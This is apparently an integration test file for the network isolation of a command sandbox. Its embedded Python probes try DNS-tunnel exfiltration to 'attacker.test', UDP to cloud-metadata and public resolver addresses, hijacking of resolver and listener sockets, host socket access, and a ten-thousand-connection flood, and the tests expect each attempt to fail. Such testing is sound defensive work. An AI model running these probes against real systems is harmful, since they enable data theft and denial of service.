// A command that attacks what serves its network: another command's, the resolver, the listeners,
// the resolver sockets of the host, the queues. Each refusal has its control.

#include <unistd.h>

#include <chrono>
#include <fstream>
#include <iterator>
#include <sstream>
#include <string>

#include "integration/support/cordon_run.h"
#include "integration/support/listener.h"
#include "integration/support/mcp_client.h"
#include "integration/support/waiting.h"
#include "support/catch.h"

namespace cordon::test {
namespace {

using std::chrono::seconds;

#define NEEDS_PYTHON()                                                                      \
  if (access("/usr/bin/python3", X_OK) != 0) CORDON_SKIP("python3", "it is not installed"); \
  static_assert(true)

std::string At(const Listener& server) { return "127.0.0.1:" + std::to_string(server.port()); }

Words Granting(const Listener& server) {
  return {"--net", "granted.test:80", "--resolve", "granted.test:80=" + At(server)};
}

// `Try` prints what comes of a call, or the name of the error; `Fetch` is the control.
constexpr char kStart[] = R"(import errno, os, socket, struct, sys, threading, time
def Try(name, call):
    try:
        got = call()
        print(name, got if isinstance(got, str) else 'ok', flush=True)
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, type(e).__name__), flush=True)
def Said(s):
    s.settimeout(8)
    return s.recv(999).decode()
def Connect(host, port):
    return Said(socket.create_connection((host, port), 8))
flooded = 'granted.test'
def Fetch():
    s = socket.create_connection(('granted.test', 80), 8)
    s.sendall(b'GET / HTTP/1.1\r\nHost: granted.test\r\n\r\n')
    return 'served' if 'greetings-from-the-host' in Said(s) + Said(s) else 'not served'
)";

std::string Python(const std::string& text) {
  return "cat >\"$TMPDIR/probe.py\" <<'END'\n" + std::string(kStart) + text +
         "END\npython3 \"$TMPDIR/probe.py\"";
}

TEST_CASE("two commands do not reach each other by any address that they have") {
  NEEDS_PYTHON();
  const Listener server(Listener::Kind::kTcp);
  const Ground first;
  Words serve = Granting(server);
  serve.insert(serve.end(), {"-c", Python(R"(
listeners = [socket.create_server(('0.0.0.0', 8080))]
abstract = socket.socket(socket.AF_UNIX)
abstract.bind('\0cordon-other-command')
abstract.listen()
listeners.append(abstract)
def Serve(l):
    while True: l.accept()[0].sendall(b'from the other command')
for l in listeners: threading.Thread(target=Serve, args=(l,), daemon=True).start()
Try('own', lambda: Connect('192.0.0.1', 8080))
sys.stdin.read()
)")});
  Child other(InsideCommand(first, serve), InsideOptions(first));
  std::string line;
  REQUIRE(other.ReadLine(line, seconds(15)));
  CHECK(line == "own from the other command");  // The control.
  const Ground second;
  const CordonRun run = RunText(second, Granting(server), Python(R"(
def Abstract():
    s = socket.socket(socket.AF_UNIX)
    s.connect('\0cordon-other-command')
    return Said(s)
for host in ('127.0.0.1', '192.0.0.1', '192.0.0.2', '198.18.0.0', '198.18.0.1', '198.19.255.255'):
    Try(host, lambda: Connect(host, 8080))
Try('abstract', Abstract)
Try('control', Fetch)
)"));
  Expect(run).Status(0).NoOut("from the other command").Out("control served");
  (void)other.Finish();
}

TEST_CASE("the resolver is the only way for a datagram, and tells nobody outside about names") {
  NEEDS_PYTHON();
  const Ground ground;
  const Listener server(Listener::Kind::kTcp);
  const Listener datagrams(Listener::Kind::kUdp);
  const std::string port = std::to_string(datagrams.port());
  const std::string send =
      "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', "
      "('127.0.0.1', " +
      port + "))";
  (void)Control(ground, "python3 -c \"" + send + "\"");
  REQUIRE(Within(seconds(5), [&] { return datagrams.contacts() == 1; }));
  const CordonRun run = RunText(ground, Granting(server), Python("port = " + port + R"(
def Send(host, port):
    s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b'secret', (host, port))
Try('loopback', lambda: Send('127.0.0.1', port))
for host in ('8.8.8.8', '127.0.0.53', '169.254.169.254', '2001:4860:4860::8888', '255.255.255.255'):
    Try(host, lambda: Send(host, 53))
def Ask(name, kind):
    question = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(8)
    s.sendto(struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + question + struct.pack('!2H', kind, 1),
             ('192.0.0.2', 53))
    answer = s.recv(999)
    return 'code %d answers %d' % (answer[3] & 15, struct.unpack('!H', answer[6:8])[0])
for kind in (1, 28, 16, 15, 5, 255): Try('name', lambda: Ask('73656372657400.attacker.test', kind))
Try('granted', lambda: Ask('granted.test', 1))
Try('control', Fetch)
)"));
  Expect(run).Status(0).Out("granted code 0 answers 1").Out("control served");
  Expect(run).NoOut("name code 0").NoOut("answers 2");
  for (const char* host : {"8.8.8.8", "169.254.169.254", "2001:4860:4860::8888"}) {
    Expect(run).Out(std::string(host) + " ENETUNREACH");
  }
  CHECK(datagrams.contacts() == 1);
}

TEST_CASE("the resolver's and the listeners' addresses cannot be taken, nor shared") {
  NEEDS_PYTHON();
  const Ground ground;
  const Listener server(Listener::Kind::kTcp);
  const CordonRun run = RunText(ground, Granting(server), Python(R"(
kept = []
def Take(family, kind, host, port, *options):
    s = socket.socket(family, kind)
    for level, name in options: s.setsockopt(level, name, 1)
    s.bind((host, port))
    if kind == socket.SOCK_STREAM: s.listen()
    s.setblocking(False)
    kept.append(s)
V4, V6, TCP, UDP = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM
SHARE = ((socket.SOL_SOCKET, socket.SO_REUSEADDR), (socket.SOL_SOCKET, socket.SO_REUSEPORT))
FREE, TRANSPARENT = ((socket.SOL_IP, 15),), ((socket.SOL_IP, 19),)
granted = socket.gethostbyname('granted.test')
for more in ((), SHARE):
    for kind in (TCP, UDP): Try('resolver', lambda: Take(V4, kind, '192.0.0.2', 53, *more))
    Try('listener', lambda: Take(V4, TCP, granted, 80, *more))
Try('transparent', lambda: Take(V4, TCP, granted, 80, *TRANSPARENT))
# These are the sandbox's own; none of them may get what is the gateway's.
for kind in (TCP, UDP): Try('free', lambda: Take(V4, kind, '192.0.0.2', 53, *SHARE, *FREE))
Try('free', lambda: Take(V4, TCP, granted, 80, *SHARE, *FREE))
for port in (53, 80):
    Try('wildcard', lambda: Take(V4, TCP, '0.0.0.0', port, *SHARE))
    Try('wildcard', lambda: Take(V4, UDP, '0.0.0.0', port, *SHARE))
Try('control', Fetch)
Try('again', lambda: 'same' if socket.gethostbyname('granted.test') == granted else 'other')
def Stolen():
    for s in kept:
        try:
            s.accept() if s.type == TCP else s.recv(9)
            return 'something'
        except BlockingIOError: pass
    return 'nothing'
Try('stolen', Stolen)
)"));
  Expect(run).Status(0).Out("control served").Out("again same").Out("stolen nothing");
  Expect(run).NoOut("resolver ok").NoOut("listener ok").NoOut("transparent ok");
  Expect(run).Out("resolver EADDRNOTAVAIL").Out("listener EADDRNOTAVAIL").Out("wildcard ok");
}

TEST_CASE("neither virtual machines' sockets nor the host's own resolvers are there") {
  NEEDS_PYTHON();
  const Ground ground;
  const Listener server(Listener::Kind::kTcp);
  const std::string place = ground.outside() + "/resolver.sock";
  const Listener path(Listener::Kind::kUnixPath, place);
  const std::string ask = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('" + place +
                          "'); print(s.recv(99))";
  (void)Control(ground, "python3 -c \"" + ask + "\"");
  REQUIRE(path.contacts() == 1);
  const CordonRun run = RunText(ground, Granting(server), Python("place = '" + place + R"('
Try('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
Try('vsock datagram', lambda: socket.socket(40, socket.SOCK_DGRAM))
def Unix(path):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
for path in (place, '/run/nscd/socket', '/var/run/nscd/socket',
             '/run/systemd/resolve/io.systemd.Resolve', '/run/avahi-daemon/socket',
             '/var/lib/sss/pipes/nss', '/run/dbus/system_bus_socket'):
    Try('resolver', lambda: Unix(path))
print(open('/etc/nsswitch.conf').read().count('hosts: files dns'), 'switch')
Try('control', Fetch)
)"));
  Expect(run).Status(0).Out("control served").NoOut("vsock ok").NoOut("datagram ok");
  Expect(run).NoOut("resolver ok").Out("1 switch");
  CHECK(path.contacts() == 1);
}

// Processor time of a process so far, in clock ticks.
long TicksOf(pid_t pid) {
  std::ifstream file("/proc/" + std::to_string(pid) + "/stat");
  const std::string text{std::istreambuf_iterator<char>(file), {}};
  std::istringstream rest(text.substr(text.rfind(')') + 2));
  std::string skipped;
  for (int i = 0; i < 11; ++i) rest >> skipped;
  long user = 0;
  long system = 0;
  rest >> user >> system;
  return user + system;
}

// Ten thousand connections that say nothing, held for a minute or until their holders end.
constexpr char kFlood[] = R"(
def Hold():
    held = []
    address = socket.gethostbyname(flooded)
    for i in range(500):
        try:
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((address, 80))
            held.append(s)
        except OSError: break
    return held
children = []
for i in range(20):
    ready, told = os.pipe()
    pid = os.fork()
    if pid == 0:
        held = Hold()
        os.write(told, b'x')
        time.sleep(60)
        os._exit(0)
    os.close(told)
    children.append(pid)
    os.read(ready, 1)
    os.close(ready)
print('flooded', flush=True)
)";

TEST_CASE(
    "ten thousand connections that say nothing keep nothing busy, and end with their command") {
  NEEDS_PYTHON();
  const Ground ground;
  const Listener server(Listener::Kind::kTcp);
  Words flood = Granting(server);
  flood.insert(flood.end(), {"-c", Python(std::string(kFlood) + R"(
sys.stdin.readline()
for pid in children: os.kill(pid, 9)
for pid in children: os.waitpid(pid, 0)
Try('control', Fetch)
)")});
  Child run(InsideCommand(ground, flood), InsideOptions(ground));
  std::string line;
  REQUIRE(run.ReadLine(line, seconds(60)));
  REQUIRE(line == "flooded");
  // What was accepted is dialled and settles; from then on nothing happens.
  const auto is_quiet = [&run] {
    const long before = TicksOf(run.pid());
    (void)Within(seconds(1), [] { return false; });
    return TicksOf(run.pid()) - before < 20;  // Of a hundred in a second.
  };
  CHECK(Within(seconds(15), is_quiet));
  REQUIRE(run.Write("\n"));
  REQUIRE(run.ReadLine(line, seconds(30)));
  CHECK(line == "control served");
  CHECK(run.Finish().status == 0);
}

TEST_CASE("a later command in the same network finds no socket and no address of an earlier one") {
  NEEDS_PYTHON();
  const Listener server(Listener::Kind::kTcp);
  const Ground ground;
  McpClient client(ground, Granting(server));
  // Connections that were left open, half closed and reset, and what a command sees of its own.
  const auto first = client.Bash(Python(R"(
kept = []
for i in range(6):
    s = socket.create_connection(('granted.test', 80), 8)
    if i % 3 == 1: s.shutdown(socket.SHUT_WR)
    kept.append(s)
print(os.readlink('/proc/self/ns/net'))
print('seen', '12C6' in open('/proc/net/tcp').read())
)"));
  const std::string said = first["structuredContent"]["stdout"];
  CHECK(Has(said, "seen True"));  // The control: 198.18.0.0/15 is where names lead to.
  const auto second = client.Bash(
      "readlink /proc/self/ns/net; cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp /proc/net/arp "
      "/proc/net/rt_cache");
  const std::string left = second["structuredContent"]["stdout"];
  CHECK(left.substr(0, left.find('\n')) == said.substr(0, said.find('\n')));  // The same network.
  CHECK_FALSE(Has(left, "12C6"));
  CHECK_FALSE(Has(left, "198.18."));
  CHECK_FALSE(Has(left, ":0050"));
}

TEST_CASE("a command that fills its own queue does not fill another's") {
  NEEDS_PYTHON();
  const Ground ground;
  const Listener server(Listener::Kind::kTcp);
  const auto deny = [](const nlohmann::json&) { return nlohmann::json{{"action", "decline"}}; };
  // A server of its own: that it has enough of the flood is not what is asked here.
  const Listener victim(Listener::Kind::kTcp);
  Words policy = Granting(server);
  policy.insert(policy.end(),
                {"--net", "flood.test:80", "--resolve", "flood.test:80=" + At(victim)});
  McpClient client(ground, policy, deny);
  const std::string flood = std::string("flooded = 'flood.test'\n") + kFlood;
  const nlohmann::json begun = client.Bash(
      Python(flood + "open('flooded', 'w').write('x')\ntime.sleep(30)\n"), {{"background", true}});
  INFO(begun.dump());
  REQUIRE(FileAppears(ground.workspace() + "/flooded", seconds(60)));
  const auto start = std::chrono::steady_clock::now();
  CHECK(Has(client.Bash(Python("Try('control', Fetch)\n")).dump(), "control served"));
  CHECK(std::chrono::steady_clock::now() - start < seconds(8));
}

}  // namespace
}  // namespace cordon::test
